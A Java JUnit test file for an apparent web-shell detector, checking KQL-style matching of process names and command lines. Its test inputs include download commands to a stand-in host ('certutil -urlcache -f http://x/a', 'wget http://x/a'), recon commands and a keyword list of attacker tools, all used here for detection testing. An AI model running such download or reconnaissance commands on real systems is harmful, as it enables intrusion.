package dev.webshell.detector.rule;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class KqlTest {

  @Test
  void shouldMatchInOnlyWithExactCase() {
    assertTrue(Kql.equalsExact("w3wp.exe", "w3wp.exe"));
    assertFalse(Kql.equalsExact("W3WP.EXE", "w3wp.exe"));
    assertFalse(Kql.equalsExact("w3wp.exe ", "w3wp.exe"));
    assertFalse(Kql.equalsExact(null, "w3wp.exe"));
  }

  @Test
  void shouldMatchInTildeIgnoringAsciiCaseOnly() {
    assertTrue(Kql.equalsIgnoreAsciiCase("CMD.EXE", "cmd.exe"));
    assertTrue(Kql.equalsIgnoreAsciiCase("Cmd.Exe", "cmd.exe"));
    assertFalse(Kql.equalsIgnoreAsciiCase("cmd.exe.", "cmd.exe"));
    assertFalse(Kql.equalsIgnoreAsciiCase("", "cmd.exe"));
    assertFalse(Kql.equalsIgnoreAsciiCase(null, "cmd.exe"));
    // full-width letters are other characters, not case variants
    assertFalse(Kql.equalsIgnoreAsciiCase("ｃｍｄ.exe", "cmd.exe"));
    // the Kelvin sign folds to 'k' in Unicode, never in ASCII
    assertFalse(Kql.equalsIgnoreAsciiCase("\u212Aill.exe", "kill.exe"));
  }

  @ParameterizedTest(name = "''{0}'' startswith tomcat = {1}")
  @CsvSource({
    "tomcat.exe,true",
    "Tomcat9.exe,true",
    "TOMCAT8w.exe,true",
    "tomcat,true",
    "ws_TomcatService.exe,false",
    "tomca.exe,false",
    "' tomcat.exe',false",
    "'',false"
  })
  void shouldMatchStartsWithIgnoringCase(String value, boolean expected) {
    assertEquals(expected, Kql.startsWithIgnoreAsciiCase(value, "tomcat"));
  }

  @Test
  void shouldNotMatchStartsWithOnNull() {
    assertFalse(Kql.startsWithIgnoreAsciiCase(null, "tomcat"));
  }

  @ParameterizedTest(name = "''{0}'' contains %temp% = {1}")
  @CsvSource(
      delimiterString = "=>",
      value = {
        "cmd /c copy a %temp%\\b => true",
        "C:\\Users\\x\\AppData\\%TEMP%\\a.bat => true",
        "echo %Temp% => true",
        "%temp% => true",
        "cmd /c echo %tmp% => false",
        "cmd /c echo temp => false",
        "cmd /c echo % temp% => false",
        "cmd /c echo %ＴＥＭＰ% => false"
      })
  void shouldMatchContainsIgnoringAsciiCase(String value, boolean expected) {
    assertEquals(expected, Kql.containsIgnoreAsciiCase(value, "%temp%"));
  }

  @ParameterizedTest(name = "''{0}'' has ping = {1}")
  @CsvSource(
      delimiterString = "=>",
      value = {
        // the SPEC's table
        "cmd /c ping 10.0.0.1 => true",
        "cmd /c PING.EXE -n 1 host => true",
        "cmd /c ping_sweep.bat => true",
        "cmd /c mapping.bat => false",
        "cmd /c pinger => false",
        // more edges
        "ping => true",
        "Ping => true",
        "\"ping\" 10.0.0.1 => true",
        "cmd /c 'ping' => true",
        "cmd /c echo a&ping b => true",
        "cmd /c dir|ping x => true",
        "cmd /c ping>out.txt => true",
        "cmd /c (ping) => true",
        "cmd /c %ping% => true",
        "c:\\windows\\system32\\ping.exe => true",
        "cmd /c ping-sweep => true",
        "cmd /c ping2 => false",
        "cmd /c 2ping => false",
        "cmd /c pings => false",
        "cmd /c éping => true",
        "cmd /c pingé => true",
        "cmd /c ｐｉｎｇ 10.0.0.1 => false",
        "cmd /c pïng => false",
        "'' => false"
      })
  void shouldMatchHasOnWholeTermsOfAsciiLettersAndDigits(String value, boolean expected) {
    assertEquals(expected, Kql.has(value, "ping"));
    assertEquals(expected, new TermMatcher(java.util.List.of("ping")).matchesAny(value));
  }

  @Test
  void shouldNotMatchHasOnNull() {
    assertFalse(Kql.has(null, "ping"));
    assertFalse(new TermMatcher(java.util.List.of("ping")).matchesAny(null));
  }

  @Test
  void shouldTreatWget64AsOneTermNotWget() {
    assertFalse(Kql.has("cmd /c wget64 http://x/a", "wget"));
    assertTrue(Kql.has("cmd /c wget.exe http://x/a", "wget"));
    assertTrue(Kql.has("cmd /c WGET http://x/a", "wget"));
  }

  @Test
  void shouldMatchPhraseTokensAtTermBoundaries() {
    assertTrue(Kql.has("cmd /c net user admin", "net user"));
    assertTrue(Kql.has("cmd /c NET USER", "net user"));
    assertFalse(Kql.has("cmd /c dotnet user", "net user"));
    assertFalse(Kql.has("cmd /c net users", "net user"));
    assertTrue(Kql.has("powershell -enc AAAA", "-enc"));
    assertTrue(Kql.has("powershell x-enc AAAA", "-enc"));
    assertFalse(Kql.has("powershell -encodedcommand AAAA", "-enc"));
  }

  @Test
  void shouldFindAnyTokenInOnePass() {
    TermMatcher m =
        new TermMatcher(
            java.util.List.of(
                "wget", "whoami", "certutil", "systeminfo", "ping", "ipconfig", "timeout"));
    assertTrue(m.matchesAny("cmd /c \"whoami /all\""));
    assertTrue(m.matchesAny("cmd /c IPCONFIG/all"));
    assertTrue(m.matchesAny("cmd /c timeout /t 5"));
    assertTrue(m.matchesAny("cmd /c certutil -urlcache -f http://x/a a.exe"));
    assertTrue(m.matchesAny("cmd /c systeminfo>c:\\x.txt"));
    assertFalse(m.matchesAny("cmd /c echo hello && dir"));
    assertFalse(m.matchesAny("cmd /c whoamix"));
    assertFalse(m.matchesAny(""));
  }
}
